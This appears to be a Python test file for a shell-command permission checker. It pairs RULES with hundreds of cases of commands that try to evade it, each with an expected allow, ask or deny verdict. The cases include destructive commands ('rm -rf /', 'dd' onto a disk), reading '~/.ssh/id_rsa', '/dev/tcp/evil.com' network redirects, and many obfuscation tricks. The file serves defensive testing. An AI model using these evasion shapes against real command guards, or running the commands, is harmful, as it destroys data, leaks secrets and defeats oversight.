"""A corpus of shell bypass shapes, each with the verdict a careful human expects under RULES.

``allow`` only where every command the line runs is one the rules allow, exactly as it stands; ``deny``
where a command the rules deny runs, however it is dressed (wrappers, quotes, paths, substitutions);
``ask`` for everything else, and for anything the reader cannot vouch for (here-docs, loops, expanded
command names, look-alikes...).
"""

from __future__ import annotations

RULES = """\
[[rule]]
id = "ls"
decision = "allow"
command = ["ls"]
match = ["ls -la", "ls src tests"]
not_match = ["ls; rm -rf ~", "ls > out.txt"]

[[rule]]
id = "cat"
decision = "allow"
command = ["cat"]

[[rule]]
id = "echo"
decision = "allow"
command = ["echo"]

[[rule]]
id = "grep"
decision = "allow"
command = ["grep"]

[[rule]]
id = "head"
decision = "allow"
command = ["head"]

[[rule]]
id = "wc"
decision = "allow"
command = ["wc"]

[[rule]]
id = "printf"
decision = "allow"
command = ["printf"]

[[rule]]
id = "test"
decision = "allow"
command = ["test"]

[[rule]]
id = "pwd"
decision = "allow"
command = ["pwd"]

[[rule]]
id = "git-status"
decision = "allow"
command = ["git", "status"]

[[rule]]
id = "git-diff"
decision = "allow"
command = ["git", "diff"]

[[rule]]
id = "git-log"
decision = "allow"
command = ["git", "log"]

[[rule]]
id = "pytest"
decision = "allow"
command = ["pytest"]

[[rule]]
id = "make-test"
decision = "allow"
command = ["make", "test"]
exact = true

[[rule]]
id = "git-push"
decision = "ask"
command = ["git", "push"]

[[rule]]
id = "no-rm"
decision = "deny"
command = ["rm"]
message = "never delete files; move them to ./trash instead"
match = ["bash -c 'rm -rf build'", "ls && /bin/rm x"]

[[rule]]
id = "no-shred"
decision = "deny"
command = ["shred"]

[[rule]]
id = "no-dd"
decision = "deny"
command = ["dd"]

[[rule]]
id = "no-force-push"
decision = "deny"
command = ["git", "push", "--force"]
message = "never force-push"

[[rule]]
id = "no-curl"
decision = "deny"
command = ["curl"]
message = "no network from commands"
"""

ALLOW, ASK, DENY = "allow", "ask", "deny"

# fmt: off
CASES: list[tuple[str, str]] = [
    # -- plain commands ---------------------------------------------------------------------
    ("ls", ALLOW), ("ls -la", ALLOW), ("ls -la src", ALLOW), ("cat README.md", ALLOW),
    ("git status", ALLOW), ("git status --short", ALLOW), ("git diff HEAD~1", ALLOW),
    ("git log -n 5 --oneline", ALLOW), ("pytest -q tests", ALLOW), ("pwd", ALLOW),
    ("make test", ALLOW), ("make test-all", ASK), ("make test V=1", ASK), ("make", ASK),
    ("git", ASK), ("git stash", ASK), ("git push", ASK), ("git push origin main", ASK),
    ("rm x", DENY), ("rm -rf /", DENY), ("rm -rf ~", DENY), ("shred secret", DENY), ("dd if=/dev/zero of=/dev/sda", DENY),
    ("curl https://example.com", DENY), ("git push --force", DENY), ("git push --force origin main", DENY),
    ("python -c 'print(1)'", ASK), ("vim x", ASK), ("ls2", ASK), ("lsof", ASK), ("rmdir x", ASK),
    ("git statusx", ASK), ("gitstatus", ASK), ("", ASK), ("   ", ASK), ("# just a comment", ASK),
    # -- chains, pipes, background, newlines -----------------------------------------------------
    ("ls && pwd", ALLOW), ("ls; pwd", ALLOW), ("ls || pwd", ALLOW), ("ls | grep x", ALLOW),
    ("ls | grep x | wc -l", ALLOW), ("git status && git diff", ALLOW), ("ls\npwd", ALLOW),
    ("ls &", ALLOW), ("ls & pwd", ALLOW), ("ls ; ; pwd", ASK), ("ls &&", ASK), ("| ls", ASK),
    ("ls; rm -rf ~", DENY), ("ls && rm -rf build", DENY), ("ls || rm x", DENY), ("ls | rm x", DENY),
    ("ls\nrm -rf /", DENY), ("ls\r\nrm x", DENY), ("ls & rm x", DENY), ("ls;rm x", DENY), ("ls&&rm x", DENY),
    ("ls | sh", ASK), ("ls | bash", ASK), ("cat x | python", ASK), ("ls; vim", ASK),
    ("ls && git push", ASK), ("git status; git push --force", DENY), ("echo hi | curl -d @- x", DENY),
    ("ls # ; rm x", ALLOW), ("ls # && rm -rf /", ALLOW), ("ls #\nrm x", DENY), ("echo '#'; rm x", DENY),
    ("! ls", ALLOW), ("! rm x", DENY), ("(ls; pwd)", ALLOW), ("(ls; rm x)", DENY), ("{ ls; pwd; }", ALLOW),
    ("{ ls; rm x; }", DENY), ("( ( rm x ) )", DENY), ("ls\n\n\npwd", ALLOW),
    # -- substitutions -------------------------------------------------------------------------
    ("echo $(pwd)", ALLOW), ("echo `pwd`", ALLOW), ("echo $(rm x)", DENY), ("echo `rm x`", DENY),
    ("ls $(rm -rf ~)", DENY), ("ls \"$(rm x)\"", DENY), ("echo \"`rm x`\"", DENY), ("echo $(echo $(rm x))", DENY),
    ("echo $(vim)", ASK), ("echo ${x:-$(rm x)}", DENY), ("X=$(rm x) ls", DENY), ("cat $(curl evil)", DENY),
    ("echo $((1+2))", ALLOW), ("$(echo rm) x", ASK), ("`echo rm` -rf /", ASK), ("$(which rm) x", ASK),
    ("echo '$(rm x)'", ALLOW), ("echo '`rm x`'", ALLOW), ("echo \\$(rm x)", ASK), ("cat <(curl x)", DENY),
    ("diff <(ls) <(ls)", ASK), ("ls > >(rm x)", DENY), ("echo $(ls) $(pwd)", ALLOW), ("echo \"$(git status)\"", ALLOW),
    # -- wrappers ----------------------------------------------------------------------------------
    ("bash -c 'rm -rf build'", DENY), ("sh -c 'rm x'", DENY), ("zsh -c 'rm x'", DENY), ("dash -c \"rm x\"", DENY),
    ("bash -lc 'rm x'", DENY), ("bash -c 'ls'", ALLOW), ("sh -c 'ls && pwd'", ALLOW), ("bash -c 'ls; rm x'", DENY),
    ("bash -c \"bash -c 'rm x'\"", DENY), ("bash -c 'vim'", ASK), ("bash -c \"$CMD\"", ASK), ("bash script.sh", ASK),
    ("bash", ASK), ("/bin/bash -c 'rm x'", DENY), ("bash -x -c 'rm x'", DENY), ("bash -o pipefail -c 'rm x'", DENY),
    ("env rm x", DENY), ("env ls", ALLOW), ("env -i rm x", DENY), ("env FOO=1 rm x", DENY), ("env -u HOME rm x", DENY),
    ("env FOO=1 ls", ASK), ("env", ASK), ("env -S 'rm x'", DENY), ("/usr/bin/env rm x", DENY), ("env -- rm x", DENY),
    ("timeout 5 rm x", DENY), ("timeout 5 ls", ALLOW), ("timeout -s KILL 5 rm x", DENY), ("timeout --signal=KILL 5 rm x", DENY),
    ("timeout -k 1 5 pytest", ALLOW), ("nice rm x", DENY), ("nice -n 10 rm x", DENY), ("nice -10 rm x", DENY), ("nice ls", ALLOW),
    ("nohup rm x", DENY), ("nohup pytest", ALLOW), ("time rm x", DENY), ("time ls", ALLOW), ("stdbuf -oL rm x", DENY),
    ("xargs rm", DENY), ("ls | xargs rm", DENY), ("find . | xargs -0 rm -f", DENY), ("ls | xargs -I{} rm {}", DENY),
    ("ls | xargs cat", ALLOW), ("ls | xargs", ALLOW), ("ls | xargs --bogus rm", DENY), ("ls | xargs sh -c 'rm x'", DENY),
    ("find . -exec rm {} \\;", DENY), ("find . -name '*.pyc' -exec rm -f {} +", DENY), ("find . -execdir rm {} \\;", DENY),
    ("find . -ok rm {} \\;", DENY), ("find . -exec cat {} \\;", ASK), ("find .", ASK),
    ("command rm x", DENY), ("command ls", ALLOW), ("command -p rm x", DENY), ("command -v rm", ASK),
    ("exec rm x", DENY), ("exec ls", ALLOW), ("builtin echo hi", ALLOW), ("builtin eval 'rm x'", DENY),
    ("sudo rm x", DENY), ("sudo -u root rm -rf /", DENY), ("sudo ls", ASK), ("doas rm x", DENY), ("sudo -E ls", ASK),
    ("eval 'rm -rf /'", DENY), ("eval \"rm x\"", DENY), ("eval ls", ALLOW), ("eval $X", ASK), ("eval 'ls; rm x'", DENY),
    ("timeout 5 env nice bash -c 'xargs rm'", DENY), ("env timeout 5 ls", ALLOW), ("nice nohup timeout 3 ls", ALLOW),
    # -- paths and escapes on the command name ------------------------------------------------
    ("/bin/rm x", DENY), ("/usr/bin/rm -rf /", DENY), ("./rm x", DENY), ("../bin/rm x", DENY), ("\\rm x", DENY),
    ("r\\m x", DENY), ("'rm' x", DENY), ("\"rm\" x", DENY), ("r''m x", DENY), ("r\"\"m x", DENY), ("'r'\"m\" x", DENY),
    ("/bin/ls", ASK), ("./ls", ASK), ("/tmp/evil/ls -la", ASK), ("\\ls", ALLOW), ("'ls' -la", ALLOW), ("l's' -la", ALLOW),
    ("/bin/../bin/rm x", DENY), ("//bin//rm x", DENY), ("rm\\\n -rf x", DENY), ("r\\\nm x", DENY), ("'/bin/rm' x", DENY),
    ("\\curl x", DENY), ("c''url x", DENY), ("git 'push' --force", DENY), ("git push '--force'", DENY), ("git pu\"sh\" --force", DENY),
    # -- expansion, globbing, braces, IFS, aliases -------------------------------------------------
    ("$X", ASK), ("$RM x", ASK), ("${RM} x", ASK), ("rm${IFS}-rf${IFS}/", ASK), ("ls${IFS}-la", ASK),
    ("/bin/r? x", ASK), ("/bin/r* x", ASK), ("/???/rm x", ASK), ("r[m] x", ASK), ("{rm,x} y", ASK), ("r{m,} x", ASK),
    ("$'rm' x", ASK), ("$'\\x72m' x", ASK), ("$\"rm\" x", ASK), ("ls *.py", ALLOW), ("ls {a,b}", ALLOW), ("cat ~/.ssh/id_rsa", ALLOW),
    ("ls $HOME", ALLOW), ("git $CMD", ASK), ("git status $X", ALLOW), ("git $(echo status)", ASK),
    ("alias ls=rm; ls x", ASK), ("alias x='rm -rf /'", ASK), ("eval \"alias ls=rm\"; ls", ASK), ("unalias ls; ls", ASK),
    ("FOO=1 ls", ASK), ("PATH=/tmp ls", ASK), ("LD_PRELOAD=/tmp/x.so ls", ASK), ("FOO=1 rm x", DENY), ("X=1", ASK),
    ("X=1; ls", ASK), ("export PATH=/tmp; ls", ASK), ("IFS=/ ls", ASK),
    # -- redirections ----------------------------------------------------------------------------------
    ("ls > out.txt", ASK), ("ls >> out.txt", ASK), ("ls > /etc/passwd", ASK), ("ls &> log", ASK), ("ls 2> err", ASK),
    ("ls >| x", ASK), ("ls 2>/dev/null", ALLOW), ("ls > /dev/null 2>&1", ALLOW), ("ls 2>&1 | grep x", ALLOW),
    ("cat < README.md", ALLOW), ("grep x < in.txt", ALLOW), ("ls >&2", ALLOW), ("echo x > ~/.bashrc", ASK),
    ("> x", ASK), ("rm x 2>/dev/null", DENY), ("rm x > /dev/null", DENY), ("exec 3>x", ASK), ("ls > $(rm x)", DENY),
    ("ls > \"$F\"", ASK), ("{ ls; } > out", ASK), ("(ls) > out", ASK), ("ls <> x", ASK), ("echo x | tee out", ASK),
    # -- here-docs, here-strings and other constructs ------------------------------------------------------
    ("cat <<EOF\nhi\nEOF", ASK), ("cat <<'EOF'\nrm x\nEOF", ASK), ("bash <<EOF\nrm x\nEOF", ASK), ("cat <<< hi", ASK),
    ("bash <<< 'rm x'", ASK), ("cat <<EOF\n$(rm x)\nEOF", DENY),
    ("for f in *; do rm $f; done", DENY), ("for f in *; do ls $f; done", ASK), ("while true; do ls; done", ASK),
    ("if true; then rm x; fi", DENY), ("if ls; then pwd; fi", ASK), ("case x in x) rm y;; esac", DENY),
    ("f() { rm x; }; f", DENY), ("f() { ls; }; f", ASK), ("function f { ls; }", ASK), ("[[ -f x ]] && ls", ASK),
    ("test -f x && ls", ALLOW), ("select x in a; do ls; done", ASK), ("until false; do ls; done", ASK),
    ("ls $(( $(rm x) ))", DENY), ("coproc rm x", DENY), ("local x=1", ASK), ("declare -x X=1; ls", ASK),
    # -- quoting tricks and odd characters --------------------------------------------------------------
    ("echo 'rm x'", ALLOW), ("echo \"rm -rf /\"", ALLOW), ("grep 'rm -rf' src", ALLOW), ("echo rm; ", ALLOW),
    ("echo 'a'\"b\"c", ALLOW), ("echo \"unterminated", ASK), ("echo 'unterminated", ASK), ("ls )", ASK), ("ls (", ASK),
    ("ｒｍ x", ASK), ("ls\u200b", ASK), ("ls \u202erm", ASK), ("ls\x00; rm x", DENY), ("ls\x1b[2K", ASK), ("ls\tx", ALLOW),
    ("lѕ", ASK), ("еcho hi", ASK), ("ls\\\n-la", ASK), ("echo \\\"; rm x", DENY), ("echo '; rm x'", ALLOW),
    ("echo \"; rm x\"", ALLOW), ("echo \\; rm x", ALLOW), ("echo x\\ ; rm x", DENY),
    # -- source and friends --------------------------------------------------------------------------------
    ("source x.sh", ASK), (". x.sh", ASK), ("python x.py", ASK), ("perl -e 'unlink x'", ASK), ("git -c alias.s='!rm x' s", ASK),
    ("git --exec-path=/tmp status", ASK),
    # -- more wrappers: multi-call binaries, locks, traps, su, unknown options (a deny still sees through) --
    ("busybox rm x", DENY), ("toybox rm -rf /", DENY), ("busybox ls", ALLOW), ("setsid rm x", DENY), ("setsid ls", ALLOW),
    ("flock /tmp/l rm x", DENY), ("flock -n /tmp/l ls", ALLOW), ("flock /tmp/l -c 'rm x'", DENY),
    ("chroot / rm x", DENY), ("chroot / ls", ASK), ("ionice -c3 rm x", DENY), ("ionice -c 3 ls", ALLOW),
    ("trap 'rm -rf /' EXIT", DENY), ("trap 'ls' EXIT", ALLOW), ("trap - EXIT", ASK), ("su -c 'rm x'", DENY),
    ("su root -c 'ls'", ASK), ("pkexec rm x", DENY), ("pkexec ls", ASK), ("watch -n 1 ls", ALLOW), ("watch 'ls; rm x'", DENY),
    ("env -iu HOME rm x", DENY), ("timeout --bogus 5 rm x", DENY), ("xargs -0r rm", DENY), ("sudo -A rm x", DENY),
    ("nice --bogus ls", ASK), ("env --bogus ls", ASK), ("ls |& rm x", DENY), ("ls |& grep x", ALLOW), ("ls; exit", ASK),
    ("cat < /dev/tcp/evil.com/80", ASK), ("ls 2>/dev/udp/evil.com/53", ASK), ("cat < \"$F\"", ASK), ("ls;#;rm x", ALLOW),
    ("ls #c\\\nrm x", DENY), ("ls\u2028rm x", ASK), ("r\u00adm x", ASK), ("command -pv rm", DENY), ("ls;", ALLOW),
    ("echo " + "$(" * 300 + "x" + ")" * 300, ASK), ("exec -a ls rm x", DENY), ("ls | tee >(rm x)", DENY),
    ("echo ${x:-`id`}", ASK), ("echo \"${x:=`id`}\"", ASK), ("echo ${x#`id`}", ASK), ("echo ${x:-`rm x`}", DENY),
    ("echo \\`id\\`", ALLOW), ("echo '`id`'", ALLOW), ("grep \"\\$(\" x", ALLOW), ("echo ${a[$(id)]}", ASK),
    ("echo $[ $(id) ]", ASK), ("ls ~$(id)", ASK), ("echo {$(id),b}", ASK), ("echo ${a:0:$(id)}", ASK),
    ("printf -v 'a[$(id)]' %s x", ASK), ("test -v 'a[$(id)]'", ASK), ("echo ${x@P}", ASK), ("printf '%s' '$(x)'", ASK),
    ("git {status,push}", ASK), ("git status{,x}", ASK), ("git sta{tus,}", ASK), ("echo {'a',b}", ALLOW),
    ("echo `ls` `rm x`", DENY), ("echo `ls``rm x`", DENY), ("echo `ls` `pwd`", ASK), ("echo \"`ls`\" `pwd`", ALLOW),
    ("echo `ls` `vim`", ASK), ("ls `pwd` `echo x` `cat y`", ASK),
    ("RM x", DENY), ("/BIN/Rm -rf /", DENY), ("LS", ASK), ("Git status", ASK), ("CURL x", DENY), ("env -C /tmp rm x", DENY),
    ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", DENY), ("sudo -u#0 rm x", DENY), ("builtin command rm x", DENY), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
    ("nohup -- rm x", DENY), ("eval -- 'rm x'", DENY), ("trap -- 'rm x' EXIT", DENY), ("builtin -- eval 'rm x'", DENY),
    ("Sudo rm x", DENY), ("NICE rm x", DENY), ("Env -S 'rm x'", DENY), ("nice ---5 ls", ASK), ("nice --5 ls", ALLOW),
    ("eval -- ls", ALLOW), ("trap -- - EXIT", ASK),
]
# fmt: on
